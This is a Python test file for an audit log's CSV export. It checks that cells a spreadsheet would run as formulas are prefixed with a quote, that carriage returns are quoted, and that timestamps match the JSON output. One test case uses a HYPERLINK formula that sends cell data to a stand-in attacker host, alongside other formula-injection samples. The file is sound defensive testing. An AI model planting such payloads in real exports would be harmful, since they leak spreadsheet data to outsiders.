"""The CSV export opens in a spreadsheet: no cell of it runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import msgspec
import pytest

from audit.export import CSV_COLUMNS, ExportedEvent, as_csv_row, as_json_line


def _spend_described(reason: str) -> ExportedEvent:
    return ExportedEvent(
        position=7,
        version=3,
        type="CreditsSpent",
        recorded_at=datetime(2026, 12, 4, tzinfo=UTC),
        hash="00" * 32,
        data={"amount": 5, "reason": reason},
        allowance_change=-5,
        topup_change=0,
        granted_change=0,
        allowance_after=95,
        topup_after=0,
        granted_after=0,
        balance_after=95,
        description=reason,
    )


def _cells(row: str) -> dict[str, str]:
    return dict(zip(CSV_COLUMNS, next(csv.reader(io.StringIO(row, newline=""))), strict=True))


@pytest.mark.parametrize(
    "reason",
    ['=HYPERLINK("https://evil.invalid/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_a_description_a_spreadsheet_would_run_starts_with_a_quote_and_data_keeps_it(
    reason: str,
) -> None:
    """A spend's reason is its description, and any text (a security review)."""
    cells = _cells(as_csv_row(_spend_described(reason)))

    assert cells["description"] == "'" + reason
    assert msgspec.json.decode(cells["data"])["reason"] == reason  # as stored
    assert cells["allowance_change"] == "-5"  # numbers are not text


def test_an_ordinary_description_is_written_as_it_is() -> None:
    cells = _cells(as_csv_row(_spend_described("Image render ='a' -1")))

    assert cells["description"] == "Image render ='a' -1"


def test_a_description_with_a_carriage_return_is_quoted() -> None:
    """The writer quoted only what its "\\n" terminator holds: a lone "\\r" in a reason
    was written bare, and readers end the row there."""
    row = as_csv_row(_spend_described("line one\rline two"))

    assert _cells(row)["description"] == "line one\rline two"


def test_a_time_is_written_as_the_json_lines_write_it() -> None:
    """The CSV wrote ``2026-12-04T00:00:00+00:00`` beside the JSON's ``…Z``: one format."""
    event = msgspec.structs.replace(
        _spend_described("x"), recorded_at=datetime(2026, 12, 4, 9, 30, 0, 120000, tzinfo=UTC)
    )

    written = _cells(as_csv_row(event))["recorded_at"]

    assert written == "2026-12-04T09:30:00.120000Z"
    assert written == msgspec.json.decode(as_json_line(event))["recorded_at"]
